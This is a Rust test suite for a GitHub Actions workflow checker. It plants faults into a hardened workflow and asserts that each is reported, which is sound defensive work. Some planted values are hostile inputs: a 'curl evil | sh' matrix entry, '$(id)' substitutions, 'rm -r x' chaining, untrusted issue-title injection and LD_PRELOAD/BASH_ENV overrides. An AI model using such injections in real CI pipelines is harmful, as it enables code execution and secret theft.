//! A workflow without fault, and the same with one planted.

use super::check;

const GOOD: &str = "\
on: {push: {branches: [main]}}
permissions:
  contents: read
jobs:
  stage:
    permissions: {packages: write}
    timeout-minutes: 60
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4
        with:
          persist-credentials: false
      - uses: actions/cache@11bd71901bbe5b1630ceea73d27597364c9af683 # v4
        with:
          path: target
          key: ${{ runner.os }}-${{ matrix.stage }}-${{ hashFiles('Cargo.lock') }}
      - run: cargo xtask ci --fix ${{ matrix.stage }}
        env:
          CARGO_TERM_COLOR: never
          TOKEN: ${{ secrets.TOKEN }}
          WHERE: ${{ vars.WHERE }}
";

/// The command line of the step that runs, and what stands in its place.
const RUN: &str = "cargo xtask ci --fix ${{ matrix.stage }}";

/// The action of the first step.
const CHECKOUT: &str = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683";

#[test]
fn a_good_one_has_no_fault() {
    assert_eq!(check(GOOD), []);
}

/// What is replaced, by what, and what must be said of which line.
type Row<'a> = (&'a str, &'a str, usize, &'a str);

#[track_caller]
fn each_is_found(table: &[Row<'_>]) {
    for (good, bad, line, message) in table {
        assert!(GOOD.contains(good), "{good:?}");
        let faults = check(&GOOD.replacen(good, bad, 1));
        let found = faults.iter().any(|fault| fault.line == *line && fault.message.contains(message));
        assert!(found, "{bad:?}: expected {line}: {message}, found {faults:#?}");
    }
}

#[test]
fn a_matrix_holds_plain_words() {
    let with = |stages: &str| {
        let strategy = format!("    timeout-minutes: 60\n    strategy: {{matrix: {{stage: {stages}}}}}\n");
        check(&GOOD.replacen("    timeout-minutes: 60\n", &strategy, 1))
    };
    assert_eq!(with("[lint, build deploy, '1.89']"), []);
    for bad in
        ["['lint; curl evil | sh']", "['$(id)']", "\"${{ fromJSON(github.event.title) }}\"", "[\"a\\nb\"]"]
    {
        let faults = with(bad);
        assert!(
            faults.iter().any(|fault| fault.message.contains("expected plain words")),
            "{bad}: {faults:?}"
        );
    }
}

#[test]
fn rights_and_bounds() {
    let on = "on: {push: {branches: [main]}}";
    each_is_found(&[
        ("push: {branches: [main]}", "pull_request_target: {}", 1, "pull_request_target gives"),
        (on, "on: [push, pull_request_target]", 1, "pull_request_target gives"),
        (on, "on: pull_request_target", 1, "pull_request_target gives"),
        (on, "on: {workflow_run: {workflows: [ci]}}", 1, "workflow_run gives"),
        (on, "name: x", 1, "it says not when it runs"),
        ("permissions:\n  contents: read\n", "", 0, "no permissions at the top"),
        ("permissions:\n  contents: read", "permissions: write-all", 2, "write-all"),
        ("permissions: {packages: write}", "permissions: write-all", 6, "write-all"),
        ("contents: read", "packages: write", 3, "packages may be written"),
        ("    timeout-minutes: 60\n", "", 5, "job stage has no timeout-minutes"),
        ("jobs:\n", "tasks:\n", 1, "it has no jobs"),
        ("jobs:\n", "tasks:\n", 4, "a workflow has tasks"),
        ("timeout-minutes: 60", "timeout-minutes: 60\n    timeout-minutes: 61", 8, "not valid YAML"),
    ]);
}

#[test]
fn what_runs_beside_the_steps() {
    let job = "    timeout-minutes: 60\n";
    each_is_found(&[
        ("jobs:\n", "defaults: {run: {shell: bash -c x}}\njobs:\n", 4, "a workflow has defaults"),
        (job, "    timeout-minutes: 60\n    defaults: {run: {shell: sh}}\n", 8, "job stage has defaults"),
        (job, "    timeout-minutes: 60\n    container: alpine\n", 8, "job stage has container"),
        (job, "    timeout-minutes: 60\n    services: {db: {image: x}}\n", 8, "job stage has services"),
        (
            job,
            "    timeout-minutes: 60\n    uses: a/b/.github/workflows/c.yml@main\n",
            8,
            "job stage has uses",
        ),
        (&GOOD[GOOD.find("    steps:").expect("steps")..], "", 5, "job stage has no steps"),
    ]);
}

#[test]
fn actions() {
    let commit = "@11bd71901bbe5b1630ceea73d27597364c9af683";
    let first = format!("docker://alpine{commit}");
    each_is_found(&[
        (commit, "@v4", 9, "actions/checkout@v4 is not pinned"),
        (commit, "", 9, "actions/checkout is not pinned"),
        (commit, "@11bd71901bbe5b1630ceea73d27597364c9af68z", 9, "is not pinned"),
        (CHECKOUT, "./.github/own", 9, "./.github/own is no action that sets a job up"),
        (CHECKOUT, "docker://alpine:3", 9, "docker://alpine:3 is no action"),
        (CHECKOUT, &first, 9, "is no action"),
        (CHECKOUT, "somebody/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", 9, "is no action"),
        (CHECKOUT, "actions/checkout/sub@11bd71901bbe5b1630ceea73d27597364c9af683", 9, "is no action"),
        ("persist-credentials: false", "persist-credentials: true", 9, "checkout keeps"),
        ("        with:\n          persist-credentials: false\n", "", 9, "checkout keeps"),
        (
            "persist-credentials: false",
            "persist-credentials: false\n          token: x",
            12,
            "actions/checkout has token",
        ),
        ("matrix.stage }}-", "github.head_ref }}-", 15, "what a stranger writes"),
        (&format!("- run: {RUN}"), "- name: nothing", 16, "either an action"),
        (
            &format!("- run: {RUN}"),
            &format!("- uses: {CHECKOUT}\n        run: {RUN}"),
            16,
            "either an action",
        ),
    ]);
}

#[test]
fn command_lines() {
    each_is_found(&[
        (RUN, "make all", 16, "\"make all\" runs"),
        (RUN, "cargo xtaskx", 16, "runs, expected one"),
        (RUN, "cargo xtask ci; rm -r x", 16, "holds ';'"),
        (RUN, "cargo xtask ci && true", 16, "holds '&'"),
        (RUN, "cargo xtask ci | tee x", 16, "holds '|'"),
        (RUN, "cargo xtask push $(id)", 16, "holds '$'"),
        (RUN, "cargo xtask push `id`", 16, "holds '`'"),
        (RUN, "cargo xtask push $EVIL", 16, "holds '$'"),
        (RUN, "cargo xtask push ${EVIL}", 16, "holds '$'"),
        (RUN, "cargo xtask push > x", 16, "holds '>'"),
        (RUN, "|\n          cargo xtask ci\n          curl x", 17, "holds '\\n'"),
        (
            "${{ matrix.stage }}\n        env",
            "${{ github.ref_name }}\n        env",
            16,
            "what a stranger writes",
        ),
        (
            "${{ matrix.stage }}\n        env",
            "${{ github.event.issue.title }}\n        env",
            16,
            "what a stranger writes",
        ),
        ("${{ matrix.stage }}\n        env", "${{ env.EVIL }}\n        env", 16, "what a stranger writes"),
        (
            "${{ matrix.stage }}\n        env",
            "${{ secrets.TOKEN }}\n        env",
            16,
            "what a stranger writes",
        ),
        (
            "${{ matrix.stage }}\n        env",
            "${{ matrix.a || github.ref }}\n        env",
            16,
            "what a stranger writes",
        ),
        ("${{ matrix.stage }}\n        env", "${{ matrix.stage\n        env", 16, "not closed"),
    ]);
}

#[test]
fn keys_and_variables_of_a_step() {
    let env = "          TOKEN: ${{ secrets.TOKEN }}\n";
    each_is_found(&[
        ("        env:\n", "        shell: bash -c {0}\n        env:\n", 17, "a step has shell"),
        (
            "        env:\n",
            "        working-directory: x\n        env:\n",
            17,
            "a step has working-directory",
        ),
        (
            "        env:\n",
            "        continue-on-error: true\n        env:\n",
            17,
            "a step has continue-on-error",
        ),
        (env, "          PATH: x\n", 19, "PATH changes what a command is"),
        (env, "          RUSTC_WRAPPER: x\n", 19, "RUSTC_WRAPPER changes"),
        (env, "          CARGO_ALIAS_XTASK: run x\n", 19, "CARGO_ALIAS_XTASK changes"),
        (env, "          LD_PRELOAD: x\n", 19, "LD_PRELOAD changes"),
        (env, "          BASH_ENV: x\n", 19, "BASH_ENV changes"),
        (env, "          TITLE: ${{ github.event.issue.title }}\n", 19, "what a stranger writes"),
        ("jobs:\n", "env: {RUSTFLAGS: x}\njobs:\n", 4, "RUSTFLAGS changes"),
    ]);
}
